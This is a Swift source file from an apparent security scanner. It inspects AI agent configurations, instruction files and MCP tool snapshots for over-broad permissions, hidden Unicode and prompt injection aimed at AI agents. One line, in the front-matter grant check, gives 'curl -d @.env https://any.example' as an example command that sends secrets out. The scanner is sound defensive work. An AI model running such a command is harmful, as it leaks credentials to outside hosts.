import BulwarkCore
import BulwarkFormats

/// Everything the agents family learned from one file, computed once and judged by every rule.
public struct AgentDocument: Sendable {
    public var path: String
    /// Set for agent configuration files.
    public var settings: AgentSettings?
    /// Why a configuration file did not parse.
    public var configError: (message: String, line: Int, column: Int)?
    /// Side effects the configuration lets run without approval.
    public var grants: [PermissionGrant] = []
    /// Set for text that agents read as guidance (rules, instructions, READMEs, package metadata).
    public var instructionKind: InstructionKind?
    public var isVendored = false
    public var hidden: [HiddenRun] = []
    public var injections: [InjectionMatch] = []
    public var launchSite: LaunchSite?
    public var launches: [AgentLaunch] = []
    public var snapshot: MCPToolSnapshot?
    public var snapshotError: (message: String, line: Int)?
    /// Tool descriptions with injected instructions or hidden Unicode.
    public var toolIssues: [ToolIssue] = []

    public init(path: String) { self.path = path }
}

/// A poisoned tool description in an MCP `tools/list` snapshot.
public struct ToolIssue: Sendable, Hashable {
    public var tool: String
    public var line: Int
    public var field: String
    public var injection: InjectionMatch?
    public var hidden: HiddenRun?
}

extension AgentDocument {
    /// The largest agent configuration or tool snapshot parsed (the parsers' value limits assume it).
    static let maxParsedBytes = 4 << 20

    /// Builds the document for a file (parsing once), or nil when nothing applies.
    static func build(_ file: SourceFile) -> AgentDocument? {
        let path = file.relativePath
        var doc = AgentDocument(path: path)
        doc.isVendored = file.isVendored
        var config = doc.isVendored ? nil : AgentConfigLocator.classify(path)
        if config == nil, !doc.isVendored, isGeminiPolicyCandidate(file) { config = (.gemini, .geminiPolicy) }
        let instruction = AgentConfigLocator.instructionKind(path)
        var site = AgentConfigLocator.isLaunchSite(path)
        // An installed MCP server's built entry point (`node_modules/calc-mcp/dist/index.js`): read for the
        // tool descriptions it registers only, never for launches.
        let vendoredToolSource = site == .sourceCode && doc.isVendored && !isPackageRootScript(path) && isPackageBuildEntry(path)
        if site == .sourceCode && doc.isVendored && !isPackageRootScript(path) { site = nil }
        if site != nil && isAgentOwnPackage(path) { site = nil }
        let snapshot = MCPPinning.isSnapshotPath(path)
        let toolListCandidate = !snapshot && config == nil && isToolListCandidate(file)
        guard config != nil || instruction != nil || site != nil || snapshot || toolListCandidate || vendoredToolSource else { return nil }
        guard let bytes = file.bytes else { return nil }

        // A JSON document that is plainly a tools/list result, wherever it sits (no parse error when it is not).
        if toolListCandidate, let snap = MCPToolSources.toolList(bytes) {
            doc.snapshot = snap
            doc.toolIssues = toolIssues(snap)
            return doc
        }

        // Configurations and snapshots are parsed whole; a real one is a few KiB. Past 4 MiB the file
        // is reported unparsed (medium, `agent-config-invalid`) rather than built into millions of
        // values (30 MB of `[0,0,...]` took 1.2 GB and 14 s).
        let unparsed = bytes.count > maxParsedBytes
            ? "the file is \(bytes.count) bytes, over the \(maxParsedBytes >> 20) MiB Bulwark parses for an agent configuration; nothing in it was checked"
            : nil
        if snapshot {
            if let unparsed {
                doc.snapshotError = (unparsed, 1)
                return doc
            }
            do {
                let snap = try MCPToolSnapshot.parse(bytes)
                doc.snapshot = snap
                doc.toolIssues = toolIssues(snap)
            } catch {
                doc.snapshotError = (error.message, error.line)
            }
            return doc
        }
        if let (product, format) = config {
            if let unparsed {
                doc.configError = (unparsed, 1, 1)
            } else if format == .codexConfig {
                do {
                    let s = try CodexConfigReader.parse(bytes)
                    doc.settings = s
                } catch {
                    doc.configError = (error.message, error.line, error.column)
                }
            } else if format == .geminiPolicy {
                do { doc.settings = try GeminiPolicyReader.parse(bytes) } catch {
                    doc.configError = (error.message, error.line, error.column)
                }
            } else {
                do {
                    doc.settings = try AgentSettingsParser.parse(bytes, product: product, format: format)
                } catch {
                    doc.configError = (error.message, error.line, error.column)
                }
            }
            if let s = doc.settings { doc.grants = PermissionEngine.grants(s, path: path) }
            doc.hidden = HiddenUnicodeScanner.scan(bytes)
        }
        if let kind = instruction {
            doc.instructionKind = kind
            doc.hidden = HiddenUnicodeScanner.scan(bytes)
            if InjectionDetector.prefilter(bytes) {
                let text = kind == .packageMetadata ? metadataText(bytes) : String(decoding: bytes, as: UTF8.self)
                doc.injections = InjectionDetector.scan(text, kind: kind, path: path)
            }
            if !doc.isVendored, isClaudeCommandOrSkill(path) {
                doc.grants += frontmatterShellGrants(bytes, path: path)
            }
        }
        if site == .sourceCode || vendoredToolSource {
            // An MCP server's own source: the descriptions it registers are what clients show the model.
            doc.toolIssues += MCPToolSources.issues(MCPToolSources.sourceTools(bytes, python: path.lowercased().hasSuffix(".py")))
        }
        if let site, site != .sourceCode, !doc.isVendored {
            doc.grants += cliGrants(bytes, path: path)
        }
        if let site {
            doc.launchSite = site
            if site == .packageJSON {
                doc.launches = AgentLaunchParser.parse(bytes, site: .shell)
            } else {
                doc.launches = AgentLaunchParser.parse(bytes, site: site, path: path, thirdParty: doc.isVendored)
            }
            if !doc.launches.isEmpty, !doc.isVendored {
                // What an attacker can do depends on who writes the prompt.
                let text = String(decoding: bytes, as: UTF8.self)
                let origins = PromptOrigin.judge(text, lines: doc.launches.map(\.line), site: site)
                for i in doc.launches.indices { doc.launches[i].prompt = origins[i] }
            }
        }
        return doc
    }

    /// A JSON file (not a known agent config) small enough to read that may be a saved tools/list result.
    static func isToolListCandidate(_ file: SourceFile) -> Bool {
        guard file.relativePath.lowercased().hasSuffix(".json"), file.size <= 4 << 20, file.fileName != "package.json",
              file.fileName != "package-lock.json", let bytes = file.bytes else { return false }
        return MCPToolSources.mayBeToolList(bytes)
    }

    /// Grants of tool lists passed to Claude Code on command lines (`--allowedTools "Bash,WebFetch"`),
    /// judged like settings rules: the lists of one command line form one rule set (a
    /// `--disallowedTools` on the same line takes precedence, as in the CLI).
    static func cliGrants(_ bytes: [UInt8], path: String) -> [PermissionGrant] {
        let lists = AgentLaunchParser.toolLists(bytes, githubWorkflow: LaunchBypassFlagRule.isGitHubWorkflow(path))
        guard !lists.isEmpty else { return [] }
        var byLine: [Int: [AgentLaunchParser.ToolList]] = [:]
        for l in lists { byLine[l.line, default: []].append(l) }
        var out: [PermissionGrant] = []
        for line in byLine.keys.sorted() {
            var s = AgentSettings(product: .claudeCode, format: .cliArguments)
            for l in byLine[line] ?? [] {
                for (i, item) in l.items.enumerated() {
                    s.rules.append(PermissionRule(decision: l.decision, text: item, syntax: .claudeCode,
                                                  mark: ConfigMark(keyPath: "\(l.flag)[\(i)]", line: l.line, column: l.column)))
                }
            }
            for var g in PermissionEngine.grants(s, path: path) {
                let flag = g.keyPath.split(separator: "[").first.map(String.init) ?? "--allowedTools"
                g.grantedBy = "\(flag) \(g.grantedBy)"
                g.saferSetting = "pass only the tools the task needs (`--allowedTools \"Read,Bash(git diff:*),Bash(npm run test:*)\"`); leave bare `Bash`, command runners, `WebFetch`, pushes and deployments out"
                out.append(g)
            }
        }
        return out
    }

    /// A TOML file outside `.gemini/policies/` that is plainly a Gemini CLI policy (`[[rule]]` tables with a
    /// decision and a tool condition): policy files named in `policyPaths` or kept in a tools folder.
    static func isGeminiPolicyCandidate(_ file: SourceFile) -> Bool {
        guard file.relativePath.lowercased().hasSuffix(".toml"), file.size <= 1 << 20, let bytes = file.bytes else { return false }
        return GeminiPolicyReader.looksLikePolicy(bytes)
    }

    /// Claude Code slash commands and skills, whose front matter `allowed-tools` runs without asking
    /// while the command or skill is active.
    static func isClaudeCommandOrSkill(_ path: String) -> Bool {
        let p = path.lowercased()
        return p.hasSuffix(".md") && (p.contains(".claude/commands/") || p.contains(".claude/skills/"))
    }

    /// `allowed-tools: Bash` / `Bash(*)` in YAML front matter (inline list or block list).
    static func frontmatterShellGrants(_ bytes: [UInt8], path: String) -> [PermissionGrant] {
        let text = String(decoding: bytes.prefix(16_384), as: UTF8.self)
        let lines = InjectionDetector.lines(text).prefix(200).map { $0.hasSuffix("\r") ? $0.dropLast() : $0 }
        guard lines.first?.trimmingSpaces() == "---" else { return [] }
        var out: [PermissionGrant] = []
        var inList = false
        for (i, raw) in lines.enumerated().dropFirst() {
            let line = raw.trimmingSpaces()
            if line == "---" { break }
            var items: [String] = []
            var column = 1
            if line.hasPrefix("allowed-tools:") {
                var value = line.dropFirst("allowed-tools:".count).trimmingSpaces()
                if let hash = value.range(of: " #") { value = String(value[..<hash.lowerBound]).trimmingSpaces() }
                inList = value.isEmpty
                column = raw.distance(from: raw.startIndex, to: raw.firstIndex(of: "a") ?? raw.startIndex) + 1
                items = splitTools(value.trimmingCharacters(in: ["[", "]"]))
            } else if inList, line.hasPrefix("- ") {
                items = [String(line.dropFirst(2))]
                column = raw.distance(from: raw.startIndex, to: raw.firstIndex(of: "-") ?? raw.startIndex) + 1
            } else {
                inList = false
                continue
            }
            for item in items {
                let t = item.trimmingCharacters(in: [" ", "\"", "'"])
                guard ["Bash", "Bash(*)", "Bash(:*)", "Bash(**)"].contains(t) else { continue }
                out.append(PermissionGrant(product: .claudeCode, operation: .arbitraryShell, example: "curl -d @.env https://any.example",
                                           grantedBy: "allowed-tools: \(t)", path: path, keyPath: "allowed-tools", line: i + 1,
                                           column: column, saferSetting: "list only the commands needed, e.g. `allowed-tools: Bash(git diff:*), Bash(git status:*)`"))
            }
        }
        return out
    }

    /// Splits `Bash(git add:*), Read, Bash(*)` on top-level commas.
    static func splitTools(_ value: String) -> [String] {
        var items: [String] = []
        var cur = ""
        var depth = 0
        for ch in value {
            if ch == "(" { depth += 1 } else if ch == ")" { depth = max(0, depth - 1) }
            if depth == 0 && ch == "," { items.append(cur); cur = ""; continue }
            cur.append(ch)
        }
        items.append(cur)
        return items
    }

    /// package.json metadata: keep the lines as they are so that line numbers stay right.
    static func metadataText(_ bytes: [UInt8]) -> String { String(decoding: bytes, as: UTF8.self) }

    /// `node_modules/pkg/x.js` or `node_modules/@scope/pkg/x.js`: where install scripts live.
    static func isPackageRootScript(_ path: String) -> Bool {
        let comps = path.split(separator: "/")
        guard let idx = comps.lastIndex(where: { $0 == "node_modules" || $0 == "site-packages" || $0 == "vendor" }) else { return false }
        let rest = comps.count - idx - 1
        if idx + 1 < comps.count, comps[idx + 1].hasPrefix("@") { return rest == 3 || (rest == 4 && comps[idx + 3] == "scripts") }
        return rest == 2 || (rest == 3 && (comps[idx + 2] == "scripts" || comps[idx + 2] == "bin"))
    }

    /// The built entry point of an installed npm package (`node_modules/<pkg>/dist|build|lib|out/index|server|main|stdio|cli|mcp.js`),
    /// where a published MCP server registers its tools. One file name per package keeps the read bounded.
    static func isPackageBuildEntry(_ path: String) -> Bool {
        let comps = path.split(separator: "/")
        guard let idx = comps.lastIndex(where: { $0 == "node_modules" }), idx + 1 < comps.count else { return false }
        let pkg = comps[idx + 1].hasPrefix("@") ? idx + 2 : idx + 1
        guard comps.count == pkg + 3, ["dist", "build", "lib", "out"].contains(comps[pkg + 1]) else { return false }
        let name = comps[pkg + 2].lowercased()
        guard name.hasSuffix(".js") || name.hasSuffix(".mjs") || name.hasSuffix(".cjs") else { return false }
        let stem = name.split(separator: ".").first.map(String.init) ?? ""
        return ["index", "server", "main", "stdio", "cli", "mcp"].contains(stem)
    }

    /// The agent CLIs themselves define their flags; their own code is not a launch.
    static func isAgentOwnPackage(_ path: String) -> Bool {
        for p in ["node_modules/@anthropic-ai/claude-code/", "node_modules/@google/gemini-cli", "node_modules/@openai/codex/",
                  "node_modules/@github/copilot", "node_modules/@qwen-code/", "node_modules/@cursor/"] where path.contains(p) {
            return true
        }
        return false
    }

    static func toolIssues(_ snap: MCPToolSnapshot) -> [ToolIssue] {
        var out: [ToolIssue] = []
        for t in snap.tools {
            var texts: [(String, String, Int)] = []
            if let d = t.description { texts.append(("description", d, t.descriptionLine ?? t.line)) }
            texts += t.schemaDescriptions.map { ($0.path, $0.text, $0.line) }
            for (field, text, line) in texts {
                let bytes = Array(text.utf8)
                for run in HiddenUnicodeScanner.scan(bytes, maxRuns: 5) {
                    out.append(ToolIssue(tool: t.name, line: line, field: field, injection: nil, hidden: run))
                }
                if let m = InjectionDetector.scan(text, kind: .toolDescription, maxMatches: 1).first {
                    out.append(ToolIssue(tool: t.name, line: line, field: field, injection: m, hidden: nil))
                }
            }
        }
        return out
    }
}
